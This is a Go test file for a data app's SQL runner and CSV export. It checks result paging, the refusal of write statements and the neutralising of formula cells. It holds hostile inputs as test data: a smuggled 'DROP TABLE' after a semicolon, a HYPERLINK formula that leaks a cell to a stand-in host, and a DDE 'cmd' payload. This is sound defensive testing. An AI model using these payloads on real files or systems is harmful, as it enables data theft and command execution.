package app_test

import (
	"encoding/csv"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/loupeapp/loupe/app"
)

func TestRunSQLPagesByRef(t *testing.T) {
	e := newEnv(t, setup{})
	res, err := e.app.RunSQL("SELECT range AS n, range % 7 AS m FROM range(5000)")
	if err != nil {
		t.Fatal(err)
	}
	if res.Rows != 5000 || res.Kept != 5000 || res.Truncated || len(res.Page.Rows) != 200 || res.Page.Offset != 0 {
		t.Fatalf("result %+v (first page of %d rows)", res, len(res.Page.Rows))
	}
	if len(res.Columns) != 2 || res.Columns[0].Name != "n" || res.Columns[0].Type != "BIGINT" {
		t.Errorf("columns %+v", res.Columns)
	}
	p, err := e.app.Page(res.Ref, 4990, 1000)
	if err != nil {
		t.Fatal(err)
	}
	if p.Offset != 4990 || len(p.Rows) != 10 || fmt.Sprint(p.Rows[0][0]) != "4990" {
		t.Errorf("last page: offset %d, %d rows, first %v", p.Offset, len(p.Rows), p.Rows[0])
	}
	p, _ = e.app.Page(res.Ref, 0, 5000)
	if len(p.Rows) != 1000 {
		t.Errorf("a page is capped at 1000 rows, got %d", len(p.Rows))
	}
	for _, tc := range []struct {
		ref           string
		offset, limit int
		code          string
	}{
		{"r_nope", 0, 10, app.CodeNotFound},
		{res.Ref, -1, 10, app.CodeInvalid},
	} {
		if _, err := e.app.Page(tc.ref, tc.offset, tc.limit); codeOf(t, err) != tc.code {
			t.Errorf("Page(%s, %d, %d): %v, want code %s", tc.ref, tc.offset, tc.limit, err, tc.code)
		}
	}
}

func TestRunSQLErrors(t *testing.T) {
	e := newEnv(t, setup{})
	e.load(t)
	for _, tc := range []struct {
		sql, code, hint string
	}{
		{"DELETE FROM orders", app.CodeRefused, "read-only"},
		{"SELECT 1; DROP TABLE orders", app.CodeRefused, "read-only"},
		{"COPY orders TO '/tmp/x.csv'", app.CodeRefused, "read-only"},
		{"SELECT * FROM ordrs", app.CodeSQL, `"orders"`},
		{"SELECT regoin FROM orders", app.CodeSQL, "region"},
		{"   ", app.CodeInvalid, "SELECT"},
	} {
		_, err := e.app.RunSQL(tc.sql)
		if codeOf(t, err) != tc.code {
			t.Errorf("%s: %v, want code %s", tc.sql, err, tc.code)
			continue
		}
		if ae := err.(*app.Error); !strings.Contains(ae.Hint, tc.hint) || ae.Message == "" {
			t.Errorf("%s: message %q hint %q, want a hint with %q", tc.sql, ae.Message, ae.Hint, tc.hint)
		}
	}
	if ds, _ := e.app.ListDatasets(); len(ds) != 2 {
		t.Errorf("refused statements changed the workspace: %d datasets", len(ds))
	}
}

func TestExportCSV(t *testing.T) {
	e := newEnv(t, setup{})
	e.load(t)
	res, err := e.app.RunSQL("SELECT region, count(*) AS n, NULL AS nothing, [1, 2] AS list FROM orders GROUP BY region ORDER BY region")
	if err != nil {
		t.Fatal(err)
	}
	path, err := e.app.ExportCSV(res.Ref)
	if err != nil || path == nil {
		t.Fatalf("export: %v %v", path, err)
	}
	if filepath.Dir(*path) != e.saveDir {
		t.Errorf("written to %s, want in %s", *path, e.saveDir)
	}
	f, err := os.Open(*path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	recs, err := csv.NewReader(f).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if int64(len(recs)-1) != res.Rows || strings.Join(recs[0], ",") != "region,n,nothing,list" {
		t.Fatalf("csv %v", recs)
	}
	if recs[1][2] != "" || recs[1][3] != "[1,2]" {
		t.Errorf("NULL and list cells: %q %q", recs[1][2], recs[1][3])
	}
	// Cells a spreadsheet would run as formulas are written as text;
	// numbers, negative ones included, stay numbers.
	res, err = e.app.RunSQL(`SELECT * FROM (VALUES
		('=HYPERLINK("http://x/?"&A1)', -12.5, '-12.5'),
		('@SUM(1+1)', 3.0, '+cmd|'' /C calc''!A0'),
		('-2+3', -1.0, chr(9) || 'tab'),
		(chr(13) || 'cr', 0.0, 'plain')) AS t("=bad", amount, note)`)
	if err != nil {
		t.Fatal(err)
	}
	path, err = e.app.ExportCSV(res.Ref)
	if err != nil || path == nil {
		t.Fatalf("export: %v %v", path, err)
	}
	raw, err := os.ReadFile(*path)
	if err != nil {
		t.Fatal(err)
	}
	recs, err = csv.NewReader(strings.NewReader(string(raw))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{
		{"'=bad", "amount", "note"},
		{`'=HYPERLINK("http://x/?"&A1)`, "-12.5", "-12.5"},
		{"'@SUM(1+1)", "3", `'+cmd|' /C calc'!A0`},
		{"'-2+3", "-1", "'\ttab"},
		{"'\rcr", "0", "plain"},
	}
	if fmt.Sprint(recs) != fmt.Sprint(want) {
		t.Errorf("exported\n%q\nwant\n%q", recs, want)
	}
	if _, err := e.app.ExportCSV("r_nope"); codeOf(t, err) != app.CodeNotFound {
		t.Errorf("unknown ref: %v", err)
	}

	// A canceled dialog writes nothing and is not an error.
	headless := app.New(app.Options{WorkspaceDir: t.TempDir(), ConfigDir: t.TempDir(), Keychain: app.NewMemoryKeychain()})
	defer headless.Shutdown(t.Context())
	r2, err := headless.RunSQL("SELECT 1")
	if err != nil {
		t.Fatal(err)
	}
	if p, err := headless.ExportCSV(r2.Ref); p != nil || err != nil {
		t.Errorf("without a window the save is canceled: %v %v", p, err)
	}
	if files, _ := headless.ChooseFiles(); files == nil || len(files) != 0 {
		t.Errorf("without a window no files are chosen: %#v", files)
	}
}
